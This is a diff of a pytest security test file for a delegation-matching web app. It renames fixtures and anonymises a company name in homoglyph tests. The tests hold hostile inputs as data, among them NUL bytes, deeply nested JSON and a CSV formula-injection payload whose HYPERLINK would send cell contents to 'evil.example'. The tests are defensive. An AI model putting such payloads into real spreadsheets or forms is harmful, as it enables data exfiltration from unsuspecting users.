@@ -19,7 +19,7 @@ def count(session, model) -> int:
     return session.exec(select(func.count()).select_from(model)).one()
 
 
-def test_405_says_which_methods_are_allowed(shipped, client):
+def test_405_says_which_methods_are_allowed(sample_directory, client):
     api = client.get("/api/v1/matches/1/decision")
     assert api.status_code == 405 and "POST" in api.headers["Allow"]
     assert set(api.get_json()) == {"error", "detail", "fields"}
@@ -29,7 +29,7 @@ def test_405_says_which_methods_are_allowed(shipped, client):
 
 @pytest.mark.parametrize("field", ["delegation_name", "contact_name", "offers", "contact_phone"])
 def test_nul_in_a_form_field_is_shown_beside_it_and_stores_nothing(
-    shipped, client, csrf_token, session, field
+    sample_directory, client, csrf_token, session, field
 ):
     data = valid_form(**{field: "Cairo\x00Chamber"})
     data["csrf_token"] = csrf_token("/interest")
@@ -44,7 +44,7 @@ def test_nul_in_a_form_field_is_shown_beside_it_and_stores_nothing(
     assert count(session, Delegation) == 0
 
 
-def test_nul_in_the_api_and_the_public_search_is_refused(shipped, client, session):
+def test_nul_in_the_api_and_the_public_search_is_refused(sample_directory, client, session):
     answer = client.post("/api/v1/delegations", json=registration(name="Lima\u0000Chamber"))
     assert answer.status_code == 400
     assert answer.get_json()["fields"] == {
@@ -59,7 +59,7 @@ def test_nul_in_the_api_and_the_public_search_is_refused(shipped, client, sessio
 
 
 def test_a_rejection_reason_longer_than_its_column_is_refused(
-    shipped, client, api_token, make_delegation
+    sample_directory, client, api_token, make_delegation
 ):
     delegation_id = make_delegation()
     found = client.get(f"/api/v1/matches?delegation_id={delegation_id}", headers=bearer(api_token))
@@ -79,7 +79,7 @@ def test_a_rejection_reason_longer_than_its_column_is_refused(
     )
 
 
-def test_json_nested_a_thousand_deep_is_a_400(shipped, client):
+def test_json_nested_a_thousand_deep_is_a_400(sample_directory, client):
     body = "[" * 1000 + "]" * 1000
     answer = client.post(
         "/api/v1/delegations", data=body, headers={"Content-Type": "application/json"}
@@ -90,9 +90,17 @@ def test_json_nested_a_thousand_deep_is_a_400(shipped, client):
 
 @pytest.mark.parametrize(
     "name",
-    ["IFLYTEK", "ＩＦＬＹＴＥＫ", "іFlytek", "iFlytek\u200b", "I\u200dFLYTEK"],
+    [
+        "EXAMPLE SPEECH LAB",
+        "ＥＸＡＭＰＬＥ ＳＰＥＥＣＨ ＬＡＢ",
+        "Exаmple Speech Lаb",
+        "Example Speech Lab\u200b",
+        "E\u200dXAMPLE SPEECH LAB",
+    ],
 )
-def test_variants_of_an_existing_name_are_refused(shipped, runner, session, tmp_path, name):
+def test_variants_of_an_existing_name_are_refused(
+    sample_directory, runner, session, tmp_path, name
+):
     path = tmp_path / "variant.csv"
     path.write_text(HEADER + f"{name},company,hefei,,x,\n", encoding="utf-8")
     before = count(session, Organisation)
@@ -102,7 +110,7 @@ def test_variants_of_an_existing_name_are_refused(shipped, runner, session, tmp_
     assert count(session, Organisation) == before
 
 
-def test_a_parent_loop_is_refused_with_the_names(shipped, runner, session, tmp_path):
+def test_a_parent_loop_is_refused_with_the_names(sample_directory, runner, session, tmp_path):
     path = tmp_path / "loop.json"
     organisations = [
         {"name": "Loop Park A", "kind": "park", "city": "hefei", "parent": "Loop Park B"},
@@ -118,7 +126,7 @@ def test_a_parent_loop_is_refused_with_the_names(shipped, runner, session, tmp_p
 
 
 def test_the_csv_export_neutralises_formulas_and_imports_back(
-    shipped, administrator, client, runner, session, tmp_path
+    sample_directory, sample_administrator, client, runner, session, tmp_path
 ):
     formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
     path = tmp_path / "formula.csv"
